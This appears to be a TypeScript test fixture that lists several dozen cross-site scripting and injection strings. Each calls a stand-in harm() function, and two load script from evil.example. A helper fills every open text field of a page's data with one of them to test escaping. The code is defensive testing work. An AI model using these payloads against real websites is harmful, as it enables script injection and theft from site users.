/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are meant to look like templates. */
/** Strings that mean harm to a page, our own list: put by tests into every field of every page. Each tries to call `harm()`. */
import { HOSTILE } from '../../report/hostile.ts';

export const HARM: readonly string[] = [
  ...HOSTILE,
  '<script>harm()</script>',
  '<img src=x onerror=harm()>',
  '<svg onload=harm()>',
  '<svg><script>harm()</script></svg>',
  '"><script>harm()</script>',
  "'><script>harm()</script>",
  '</title><script>harm()</script>',
  '</textarea><script>harm()</script>',
  '</style><script>harm()</script>',
  '</script><script>harm()</script>',
  '<iframe srcdoc="<script>parent.harm()</script>"></iframe>',
  '<iframe src="javascript:parent.harm()"></iframe>',
  '<object data="javascript:harm()"></object>',
  '<embed src="javascript:harm()">',
  '<a href="javascript:harm()">x</a>',
  '<a href="java\tscript:harm()">x</a>',
  '<a href="&#106;avascript:harm()">x</a>',
  '<form action="javascript:harm()"><input type=submit autofocus onfocus=harm()></form>',
  '<input autofocus onfocus=harm()>',
  '<details open ontoggle=harm()>',
  '<video><source onerror=harm()></video>',
  '<audio src=x onerror=harm()>',
  '<body onload=harm()>',
  '<marquee onstart=harm()>',
  '<style>@import "javascript:harm()";</style>',
  '<div style="background:url(javascript:harm())">',
  '<math><mtext><table><mglyph><style><img src=x onerror=harm()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=harm()>">',
  '<template><script>harm()</script></template>',
  '<base href="javascript:harm()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:harm()">',
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  '<link rel=import href="data:text/html,<script>harm()</script>">',
  'javascript:harm()',
  'JaVaScRiPt:harm()',
  'data:text/html,<script>harm()</script>',
  'vbscript:harm()',
  ' javascript:harm()',
  '\u0001javascript:harm()',
  '//evil.example/x.js',
  'https://user:pass@evil.example/',
  '{{constructor.constructor("harm()")()}}',
  '${harm()}',
  '#{harm()}',
  '`${harm()}`',
  "');harm();//",
  '";harm();//',
  '\\u003cscript\\u003eharm()\\u003c/script\\u003e',
  '\\x3cscript\\x3eharm()\\x3c/script\\x3e',
  '<<script>script>harm()</script>',
  '<scr<script>ipt>harm()</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img """><script>harm()</script>">',
  '<img src=`javascript:harm()`>',
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>harm()</script></html>',
  '<![CDATA[<script>harm()</script>]]>',
  '<!--[if IE]><script>harm()</script><![endif]-->',
  '+ADw-script+AD4-harm()+ADw-/script+AD4-',
  '\ufeff<script>harm()</script>',
  '%3Cscript%3Eharm()%3C/script%3E',
  '&lt;script&gt;harm()&lt;/script&gt;',
  '__proto__',
  'toString',
  'A'.repeat(5_000),
  '<b>'.repeat(300),
];

/** A copy of a value with every text in it replaced; texts on which the page's shape hangs are kept. */
export function filled<T>(
  value: T,
  text: string,
  kept: (path: readonly string[], value: string) => boolean,
  path: readonly string[] = [],
): T {
  if (typeof value === 'string') return (kept(path, value) ? value : text) as T;
  if (Array.isArray(value)) return value.map((one, i) => filled(one as unknown, text, kept, [...path, String(i)])) as T;
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, filled(one as unknown, text, kept, [...path, name])])) as T;
  return value;
}

/** Names of fields whose texts are from a closed list, or are ids that tie things together. */
const CLOSED = new Set([
  'schema',
  'outcome',
  'rawOutcome',
  'kind',
  'label',
  'severity',
  'status',
  'state',
  'route',
  'origin',
  'grade',
  'question',
  'covers',
  'detail',
  'op',
  'decision',
  'reason',
  'view',
  'layer',
  'match',
  'standing',
  'judge',
  'stage',
  'mediaType',
  'id',
  'to',
  'of',
  'source',
  'field',
  'why',
  'batch',
  'createdAt',
  'finishedAt',
  'at',
]);

/** Keeps ids and closed words. `why` is open text except where it names the reason for not asking. */
export const keepsShape = (path: readonly string[], value: string): boolean => {
  const name = path.at(-1) ?? '';
  if (name === 'why') return path.includes('lookup');
  if (name === 'id' || name === 'source') return !path.includes('record');
  if (name === 'detail') return !path.includes('error');
  return CLOSED.has(name) || /^sha256:[0-9a-f]{64}$/.test(value);
};
